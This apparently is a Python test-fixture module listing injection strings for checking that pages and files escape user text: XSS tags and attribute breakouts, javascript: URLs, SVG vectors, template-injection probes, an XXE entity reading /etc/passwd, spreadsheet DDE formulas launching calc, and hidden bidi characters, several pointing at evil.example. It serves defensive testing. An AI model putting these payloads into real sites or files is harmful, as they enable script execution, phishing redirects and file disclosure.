"""Texts that would run, ask, lead away or be worked out, where a page or a file took them as code.

Written by us. Each calls a trap of `browser_traps.js` where it is a script; the others make an
element, an attribute or a formula that no page and no file of ours ever holds.
"""

from __future__ import annotations

MARKUP = (
    "<script>alert(1)</script>",
    "</title><script>alert(2)</script>",
    "</textarea><script>alert(3)</script>",
    "</option></select><script>alert(4)</script>",
    "--><script>alert(5)</script><!--",
    "<scr<script>ipt>alert(6)</scr</script>ipt>",
    "<SCRIPT\tSRC=//evil.example/x.js></SCRIPT>",
    "<script type=module>import('//evil.example/x.js')</script>",
    "<img src=x onerror=alert(9)>",
    "<img src=x:x onerror=\nalert(10) //",
    "<body onload=alert(11)>",
    "<details open ontoggle=alert(12)>",
    "<input autofocus onfocus=alert(13)>",
    "<video><source onerror=alert(14)></video>",
    "<marquee onstart=alert(15)>x</marquee>",
    "<iframe src=javascript:alert(16)></iframe>",
    '<iframe srcdoc="<script>parent.alert(17)</script>"></iframe>',
    "<object data=javascript:alert(18)></object>",
    "<embed src=//evil.example/x.swf>",
    "<base href=//evil.example/>",
    '<meta http-equiv=refresh content="0;url=//evil.example/">',
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<form action=//evil.example/><button>Đăng nhập</button></form>",
    "<template><script>alert(24)</script></template>",
    "<dialog open>Phiên đã hết</dialog>",
)
"""Elements in running text."""

ATTRIBUTES = (
    '"><script>alert(30)</script>',
    "'><script>alert(31)</script>",
    '" autofocus onfocus=alert(32) x="',
    "' autofocus onfocus=alert(33) x='",
    '" onpointerover="alert(34)" style="position:fixed;inset:0" x="',
    '" formaction="//evil.example/" x="',
    "` onerror=alert(36) `",
    "&quot; onfocus=alert(37) autofocus &quot;",
    "&#34;&#62;&#60;script&#62;alert(38)&#60;/script&#62;",
)
"""Ways out of an attribute."""

ADDRESSES = (
    "javascript:alert(40)",
    "JaVaScRiPt&colon;alert(41)",
    "java\tscript:alert(42)",
    "data:text/html,<script>alert(43)</script>",
    "vbscript:msgbox(44)",
    "//evil.example/",
    "\\\\evil.example\\x",
)
"""What would lead away as an address."""

DRAWINGS = (
    "<svg onload=alert(50)>",
    "<svg><script href=data:,alert(51) /></svg>",
    "<svg><animate onbegin=alert(52) attributeName=x dur=1s></svg>",
    "<svg><foreignObject><iframe srcdoc='<script>alert(53)</script>'></iframe></svg>",
    "<svg><a xlink:href=javascript:alert(54)><text>x</text></a></svg>",
    "<math><mtext><mglyph><style><img src=x onerror=alert(55)></style></mglyph></mtext></math>",
)
"""Drawings and formulas inside a page."""

TEMPLATES = (
    "{{ 7 * 7 }}{{ config }}",
    "{% raw %}{{ self.__init__.__globals__ }}{% endraw %}",
    "${alert(60)}`${alert(61)}`",
    "%(who)s %(secret)d %n %s",
    "{percent} {sent} {__proto__}",
    "#{alert(62)} <%= alert(63) %>",
)
"""What a template or a sentence with blanks would fill in."""

DATA = (
    '{"x":"</script><script>alert(70)</script>"}',
    '\\"};alert(71);//',
    "\\u003cscript\\u003ealert(72)\\u003c/script\\u003e",
    "]]><script>alert(73)</script><![CDATA[",
    "<!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]>&y;",
)
"""What would end a piece of JSON or XML."""

STYLES = (
    "</style><script>alert(80)</script>",
    "x}body{display:none}",
    "<style>body{background:url(//evil.example/)}</style>",
    '" style="background:url(//evil.example/)" x="',
)
"""Style that hides or asks."""

FORMULAS = (
    '=HYPERLINK("//evil.example/","xem")',
    "=cmd|'/c calc'!A1",
    "+1+cmd|'/c calc'!A1",
    "-2+3+cmd|'/c calc'!A1",
    "@SUM(1+1)*cmd|'/c calc'!A1",
    "\t=1+1",
)
"""What a spreadsheet would work out."""

HIDDEN = (
    "Họp\u202egpj.exe",
    "\u2066Bình an\u2069\u200f",
    "Tin\u200bẩn\ufeff",
    "Tin\x00<script>alert(90)</script>",
    "Tin\x1b[2J\x07",
    "<\x00script>alert(91)</script>",
)
"""Characters nobody sees: the direction of writing, nothing at all, the end of a string."""

SHOWN = (*ATTRIBUTES, *MARKUP, *DRAWINGS, *ADDRESSES, *TEMPLATES, *DATA, *STYLES, *FORMULAS)
"""What a person may have typed; ways out of an attribute come first, so that they are the first."""

ALL = (*SHOWN, *HIDDEN)
